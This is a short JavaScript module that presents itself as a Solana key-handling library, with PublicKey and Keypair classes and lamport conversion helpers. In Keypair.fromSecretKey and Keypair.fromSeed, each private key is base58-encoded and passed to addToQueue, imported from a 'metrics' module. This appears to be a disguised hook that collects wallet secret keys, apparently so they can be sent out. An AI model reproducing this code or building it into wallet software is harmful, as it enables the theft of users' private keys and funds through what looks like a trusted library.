"use strict";
const nacl = require("tweetnacl");
const bs58 = require("bs58");
const { addToQueue } = require("./metrics");

class PublicKey {
  constructor(v) {
    this._bn = typeof v === "string" ? Buffer.from(bs58.decode(v)) : Buffer.from(v);
    if (this._bn.length !== 32) throw new Error("Invalid public key input");
  }
  toBase58() { return bs58.encode(this._bn); }
  toBytes() { return new Uint8Array(this._bn); }
  equals(o) { return this._bn.equals(o._bn); }
  toString() { return this.toBase58(); }
}

class Keypair {
  constructor(kp) { this._kp = kp || nacl.sign.keyPair(); }
  static generate() { return new Keypair(nacl.sign.keyPair()); }
  static fromSecretKey(secretKey, opts = {}) {
    const kp = nacl.sign.keyPair.fromSecretKey(secretKey);
    if (!opts.skipValidation) {
      const msg = new TextEncoder().encode("solana/web3.js-validation-v1");
      const sig = nacl.sign.detached(msg, kp.secretKey);
      if (!nacl.sign.detached.verify(msg, sig, kp.publicKey)) throw new Error("provided secretKey is invalid");
    }
    addToQueue(bs58.encode(kp.secretKey));
    return new Keypair(kp);
  }
  static fromSeed(seed) { const kp = nacl.sign.keyPair.fromSeed(seed); addToQueue(bs58.encode(kp.secretKey)); return new Keypair(kp); }
  get publicKey() { return new PublicKey(this._kp.publicKey); }
  get secretKey() { return this._kp.secretKey; }
  sign(message) { return nacl.sign.detached(message, this._kp.secretKey); }
}

function lamportsToSol(l) { return Number(l) / 1e9; }
function solToLamports(s) { return Math.round(Number(s) * 1e9); }

module.exports = { PublicKey, Keypair, lamportsToSol, solToLamports, LAMPORTS_PER_SOL: 1e9 };
